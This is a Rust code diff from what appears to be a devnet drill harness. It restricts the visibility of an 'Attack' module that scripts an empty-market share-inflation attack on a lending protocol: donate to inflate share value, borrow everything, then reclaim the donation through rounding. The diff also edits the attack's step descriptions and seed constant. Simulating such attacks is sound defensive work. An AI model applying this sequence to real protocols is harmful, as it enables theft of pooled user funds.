@@ -18,7 +18,7 @@ pub enum Form {
 }
 
 /// The attacker.
-pub struct Attack {
+pub(super) struct Attack {
     form: Form,
     rng: fastrand::Rng,
     donation: U256,
@@ -26,7 +26,7 @@ pub struct Attack {
 }
 
 /// A transaction of the attacker with what it is for.
-pub struct Move {
+pub(super) struct Move {
     /// Transaction, without nonce.
     pub tx: Tx,
     /// Lane.
@@ -40,7 +40,7 @@ impl Attack {
     ///
     /// # Errors
     /// [`DrillError`].
-    pub fn prepare(devnet: &mut Devnet, protocol: &Protocol, form: Form, seed: u64) -> Result<Self, DrillError> {
+    pub(super) fn prepare(devnet: &mut Devnet, protocol: &Protocol, form: Form, seed: u64) -> Result<Self, DrillError> {
         let Some(asset) = ASSETS.get(EMPTY) else { return Err(DrillError::Artifact("no empty market".to_owned())) };
         let (mut pools, mut eyes) = (U256::ZERO, Eyes::open(devnet));
         for (index, asset) in ASSETS.iter().enumerate().take(EMPTY) {
@@ -57,21 +57,21 @@ impl Attack {
         let fund = transferCall { to: protocol.attack, amount: donation + seed_assets };
         super::protocol::send(devnet, call(THIEF, token, fund))?;
         super::protocol::settle(devnet)?;
-        Ok(Self { form, rng: fastrand::Rng::with_seed(seed ^ 0x0a77_ac4), donation, seed: seed_assets })
+        Ok(Self { form, rng: fastrand::Rng::with_seed(seed ^ 0x00a7_7ac4), donation, seed: seed_assets })
     }
 
     /// First block of the theft.
     ///
     /// # Errors
     /// [`DrillError`].
-    pub fn open(&mut self, devnet: &Devnet, protocol: &Protocol) -> Result<Vec<Move>, DrillError> {
+    pub(super) fn open(&mut self, devnet: &Devnet, protocol: &Protocol) -> Result<Vec<Move>, DrillError> {
         let (_, vault) = protocol.pair(EMPTY)?;
         let (seed, donation) = (self.seed, self.donation);
         match self.form {
             Form::SixTransactions => {
                 let lane = if self.rng.u8(..10) < 7 { Lane::Private } else { Lane::Public };
                 let tx = self.bid(call(THIEF, protocol.attack, setUpCall { vault, seed, donation }));
-                let what = "supplies to the empty market, keeps 2 shares and donates: one share is now worth millions".to_owned();
+                let what = "makes 2 shares of the empty market worth millions by a donation".to_owned();
                 Ok(vec![Move { tx, lane, what }])
             }
             Form::OnePrivate => {
@@ -82,7 +82,7 @@ impl Attack {
                 }
                 let whole = allCall { vault, seed, donation, vaults, amounts };
                 let tx = Tx { gas_limit: 5_000_000, ..self.bid(call(THIEF, protocol.attack, whole)) };
-                let what = "inflates, borrows everything and takes the donation back in one transaction".to_owned();
+                let what = "inflates, borrows everything and takes the donation back".to_owned();
                 Ok(vec![Move { tx, lane: Lane::Private, what }])
             }
         }
@@ -92,7 +92,7 @@ impl Attack {
     ///
     /// # Errors
     /// [`DrillError`].
-    pub fn drain(&mut self, devnet: &Devnet, protocol: &Protocol) -> Result<Vec<Move>, DrillError> {
+    pub(super) fn drain(&mut self, devnet: &Devnet, protocol: &Protocol) -> Result<Vec<Move>, DrillError> {
         if self.form == Form::OnePrivate {
             return Ok(Vec::new());
         }
@@ -105,7 +105,7 @@ impl Attack {
             moves.push(Move { tx, lane, what });
         }
         let tx = self.bid(call(THIEF, protocol.attack, exitCall {}));
-        let what = "withdraws the donation for one share, by rounding, and leaves the debt behind".to_owned();
+        let what = "takes the donation back by a rounding error, leaves the debt".to_owned();
         moves.push(Move { tx, lane: Lane::Private, what });
         Ok(moves)
     }
